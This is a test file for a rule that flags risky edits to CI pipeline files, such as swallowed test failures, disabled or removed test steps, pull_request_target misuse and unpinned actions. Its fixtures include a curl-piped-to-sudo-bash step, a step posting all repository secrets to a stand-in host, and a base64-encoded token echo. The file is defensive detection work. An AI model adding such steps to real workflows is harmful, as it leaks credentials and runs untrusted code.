import rule from '../../../src/core/rules/diff/ci-workflow-changed';
import { added, deleted, modified, renamed } from '../../../src/core/rules/support/changes';
import { diffRuleTester } from '../../ruleTester';

const wf = (steps: string, head = 'on: [push, pull_request]\n'): string =>
  `${head}jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
const base = '      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n';

diffRuleTester(rule, {
  valid: [
    { name: 'a deleted file that is not a CI definition', change: deleted('test/slugify.test.js', "test('x', () => {});\n") },
    { name: 'a deleted source file', change: deleted('src/app.js', 'run();\n') },
    { name: 'not a CI file', change: modified('src/ci.yml', 'a: 1\n', 'a: 2\n') },
    { name: 'issue template', change: modified('.github/ISSUE_TEMPLATE/bug.yml', 'name: Bug\n', 'name: Bug report\n') },
    { name: 'dependabot config is not CI', change: modified('.github/dependabot.yml', 'version: 2\n', 'version: 2\n# x\n') },
    { name: 'unchanged workflow', change: modified('.github/workflows/ci.yml', wf(base), wf(base)) },
  ],
  invalid: [
    {
      name: 'npm test || echo',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm test || echo "tests failed, continuing"'))),
      errors: [{ messageId: 'swallowed', line: 8, severity: 'high' }],
    },
    {
      name: 'lint || exit 0',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm test || exit 0'))),
      errors: [{ messageId: 'swallowed', line: 8 }],
    },
    {
      name: 'test || :',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm test || :'))),
      errors: [{ messageId: 'swallowed', line: 8 }],
    },
    {
      name: 'test; exit 0 in a block script',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base.replace('      - run: npm test\n', '      - run: |\n          npm test; exit 0\n')),
      ),
      errors: [{ messageId: 'swallowed', line: 9 }],
    },
    {
      name: 'set +e before the tests',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base.replace('      - run: npm test\n', '      - run: |\n          npm test\n')),
        wf(base.replace('      - run: npm test\n', '      - run: |\n          set +e\n          npm test\n')),
      ),
      errors: [{ messageId: 'errexitOff', line: 9, severity: 'high' }],
    },
    {
      name: 'an echo fallback on a non-check command is only an edit',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '      - run: git diff --quiet || echo "changed"\n')),
      errors: [{ messageId: 'edited', severity: 'medium' }],
    },
    {
      name: 'paths-ignore added that excludes source',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base, "on:\n  push:\n  pull_request:\n    paths-ignore:\n      - 'docs/**'\n      - 'src/legacy/**'\n"),
      ),
      errors: [
        { messageId: 'pathsIgnore', line: 4, severity: 'high' },
        { messageId: 'pathsIgnore', line: 6, severity: 'high' },
      ],
    },
    {
      name: 'paths-ignore flow list of docs only is medium',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base, "on:\n  push:\n    paths-ignore: ['**.md', 'docs/**']\n")),
      errors: [{ messageId: 'pathsIgnore', line: 3, severity: 'medium' }],
    },
    {
      name: 'paths-ignore gains an entry',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base, "on:\n  pull_request:\n    paths-ignore:\n      - 'docs/**'\n"),
        wf(base, "on:\n  pull_request:\n    paths-ignore:\n      - 'docs/**'\n      - '**/*.ts'\n"),
      ),
      errors: [{ messageId: 'pathsIgnore', line: 5, severity: 'high' }],
    },
    {
      name: 'paths: filter added that leaves source out',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base, "on:\n  push:\n    paths:\n      - 'docs/**'\n      - README.md\n")),
      errors: [{ messageId: 'pathsOnly', line: 3, severity: 'high' }],
    },
    {
      name: 'paths: filter added that keeps source',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base, "on:\n  push:\n    paths:\n      - 'src/**'\n      - package.json\n"),
      ),
      errors: [{ messageId: 'pathsOnly', line: 3, severity: 'medium' }],
    },
    {
      name: 'any edit is medium',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm ci', 'npm ci --prefer-offline'))),
      errors: [{ messageId: 'edited', severity: 'medium', line: 7 }],
    },
    {
      name: 'node version bump',
      change: modified('.github/workflows/ci.yml', wf(base) + '        env: { NODE: 18 }\n', wf(base) + '        env: { NODE: 20 }\n'),
      errors: [{ messageId: 'edited' }],
    },
    {
      name: 'test command modified but kept',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm run test -- --coverage'))),
      errors: [{ messageId: 'edited' }],
    },
    {
      name: 'test step removed',
      change: modified('.github/workflows/ci.yml', wf(base), wf('      - uses: actions/checkout@v4\n      - run: npm ci\n')),
      errors: [{ messageId: 'checkRemoved', severity: 'high', side: 'removed', line: 8 }],
    },
    {
      name: 'non-check step removed',
      change: modified('.github/workflows/ci.yml', wf(base), wf('      - uses: actions/checkout@v4\n      - run: npm test\n')),
      errors: [{ messageId: 'stepRemoved', side: 'removed' }],
    },
    {
      name: 'if: false',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '        if: false\n')),
      errors: [{ messageId: 'disabledStep', line: 9, severity: 'high' }],
    },
    {
      name: 'if: ${{ false }}',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '        if: ${{ false }}\n')),
      errors: [{ messageId: 'disabledStep' }],
    },
    {
      name: 'continue-on-error',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '        continue-on-error: true\n')),
      errors: [{ messageId: 'ignoresFailure', line: 9 }],
    },
    {
      name: 'continue-on-error decided by an expression',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base + "        continue-on-error: ${{ github.event_name == 'pull_request' }}\n"),
      ),
      errors: [{ messageId: 'ignoresFailure', line: 9 }],
    },
    {
      name: 'continue-on-error: ${{ false }} is only an edit',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '        continue-on-error: ${{ false }}\n')),
      errors: [{ messageId: 'edited', severity: 'medium' }],
    },
    {
      name: 'ignore-scripts on install is not a test filter',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm ci', 'npm ci --ignore-scripts && npm test'))),
      errors: [{ messageId: 'edited' }],
    },
    {
      name: 'test paths ignored on the test command',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base.replace('npm test', 'npm test -- --ci --testPathIgnorePatterns "auth"')),
      ),
      errors: [{ messageId: 'testsNarrowed', line: 8, severity: 'high' }],
    },
    {
      name: 'pytest deselects by marker',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm test && pytest -m "not contamination"'))),
      errors: [{ messageId: 'testsNarrowed', line: 8 }],
    },
    {
      name: 'pytest deselects by keyword',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base.replace('npm test', 'npm test && pytest -q -k "not slow and not auth"')),
      ),
      errors: [{ messageId: 'testsNarrowed', line: 8 }],
    },
    {
      name: '|| true in run',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base.replace('npm test', 'npm test || true'))),
      errors: [{ messageId: 'swallowed', line: 8 }],
    },
    {
      name: 'pull_request_target added',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base, 'on: [push, pull_request_target]\n')),
      errors: [{ messageId: 'prTarget', line: 1 }],
    },
    {
      name: 'pull_request_target and write permissions widen access: insecure-config',
      change: modified('.github/workflows/ci.yml', wf(base), 'permissions: write-all\n' + wf(base, 'on: pull_request_target\n')),
      errors: [
        { messageId: 'permissions', line: 1, category: 'insecure-config', severity: 'high' },
        { messageId: 'prTarget', line: 2, category: 'insecure-config' },
      ],
    },
    {
      name: "a pull_request_target workflow checks out the pull request's head",
      change: modified(
        '.github/workflows/preview.yml',
        wf(base, 'on: pull_request_target\n'),
        wf(
          base.replace(
            'actions/checkout@v4\n',
            'actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n',
          ),
          'on: pull_request_target\n',
        ),
      ),
      errors: [{ messageId: 'prHeadCheckout', line: 8, category: 'insecure-config', severity: 'high' }],
    },
    {
      name: 'actions pinned to a tag or a SHA, and a pull_request workflow checking out its head, are only an ordinary edit',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(
          base +
            '      - uses: someone/deploy-action@v2\n      - uses: other/tool@3f2a9c1d0b8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a\n      - uses: actions/setup-node@main\n',
        ),
      ),
      errors: [{ messageId: 'edited', severity: 'medium' }],
    },
    {
      name: 'a download piped into bash in a run step',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base + '      - run: curl -fsSL https://get.example.dev/setup.sh | sudo bash\n'),
      ),
      errors: [{ messageId: 'pipeToShell', line: 9, category: 'supply-chain', severity: 'high' }],
    },
    {
      name: 'a third-party action from a moving branch',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '      - uses: someone/deploy-action@master\n')),
      errors: [{ messageId: 'unpinnedAction', line: 9, category: 'supply-chain', severity: 'medium' }],
    },
    {
      name: 'permissions write-all',
      change: modified('.github/workflows/ci.yml', wf(base), 'permissions: write-all\n' + wf(base)),
      errors: [{ messageId: 'permissions', line: 1 }],
    },
    {
      name: 'contents: write',
      change: modified(
        '.github/workflows/ci.yml',
        'permissions:\n  contents: read\n' + wf(base),
        'permissions:\n  contents: write\n' + wf(base),
      ),
      errors: [{ messageId: 'permissions', line: 2 }],
    },
    {
      name: 'secret echoed',
      change: modified('.github/workflows/ci.yml', wf(base), wf(base + '      - run: echo ${{ secrets.NPM_TOKEN }} | base64\n')),
      errors: [{ messageId: 'secretEcho' }],
    },
    {
      name: 'a secret from the step environment encoded so the log does not mask it',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(
          base +
            '      - name: debug auth\n        run: echo "$NODE_AUTH_TOKEN" | base64 -w0\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n',
        ),
      ),
      errors: [{ messageId: 'secretEcho', category: 'secrets', severity: 'high' }],
    },
    {
      name: 'a secret handed to a command on stdin, or written to a config file, is not printed',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(
          base +
            '      - run: echo "$REGISTRY_PASSWORD" | docker login -u ci --password-stdin\n      - run: echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc\n      - run: echo "::add-mask::$API_TOKEN"\n',
        ),
      ),
      errors: [{ messageId: 'edited' }],
    },
    {
      name: 'secrets to curl',
      change: modified(
        '.github/workflows/ci.yml',
        wf(base),
        wf(base + "      - run: curl -d '${{ toJSON(secrets) }}' https://x.example\n"),
      ),
      errors: [{ messageId: 'secretEcho' }],
    },
    {
      name: 'gitlab allow_failure',
      change: modified('.gitlab-ci.yml', 'test:\n  script: npm test\n', 'test:\n  script: npm test\n  allow_failure: true\n'),
      errors: [{ messageId: 'ignoresFailure' }],
    },
    {
      name: 'azure continueOnError',
      change: modified('azure-pipelines.yml', 'steps:\n- script: npm test\n', 'steps:\n- script: npm test\n  continueOnError: true\n'),
      errors: [{ messageId: 'ignoresFailure' }],
    },
    {
      name: 'buildkite soft_fail',
      change: modified(
        '.buildkite/pipeline.yml',
        'steps:\n  - command: make test\n',
        'steps:\n  - command: make test\n    soft_fail: true\n',
      ),
      errors: [{ messageId: 'ignoresFailure' }],
    },
    {
      name: 'Jenkinsfile lint removed',
      change: modified('Jenkinsfile', "stage('x') {\n  sh 'npm ci'\n  sh 'npx eslint .'\n}\n", "stage('x') {\n  sh 'npm ci'\n}\n"),
      errors: [{ messageId: 'checkRemoved' }],
    },
    {
      name: 'circleci pytest removed',
      change: modified(
        '.circleci/config.yml',
        'jobs:\n  t:\n    steps:\n      - run: pip install .\n      - run: pytest\n',
        'jobs:\n  t:\n    steps:\n      - run: pip install .\n',
      ),
      errors: [{ messageId: 'checkRemoved' }],
    },
    {
      name: 'travis edit',
      change: modified('.travis.yml', 'language: node_js\n', 'language: node_js\nnode_js: 20\n'),
      errors: [{ messageId: 'edited' }],
    },
    {
      name: 'bitbucket edit',
      change: modified('bitbucket-pipelines.yml', 'image: node:18\n', 'image: node:20\n'),
      errors: [{ messageId: 'edited' }],
    },
    {
      name: 'composite action edited',
      change: modified('.github/actions/setup/action.yml', 'runs:\n  using: composite\n', 'runs:\n  using: node20\n'),
      errors: [{ messageId: 'edited' }],
    },
    {
      name: 'new workflow',
      change: added('.github/workflows/release.yaml', wf(base)),
      errors: [{ messageId: 'added', severity: 'medium' }],
    },
    {
      name: 'new workflow with pull_request_target',
      change: added('.github/workflows/pr.yml', wf(base, 'on: pull_request_target\n')),
      errors: [{ messageId: 'prTarget', severity: 'high' }],
    },
    {
      name: 'workflow deleted',
      change: deleted('.github/workflows/ci.yml', wf(base)),
      errors: [{ messageId: 'deletedFile', severity: 'high', side: 'removed' }],
    },
    {
      name: 'workflow moved out of workflows',
      change: renamed('.github/workflows/ci.yml', '.github/ci.yml.disabled', wf(base), wf(base)),
      errors: [{ messageId: 'deletedFile' }],
    },
  ],
});
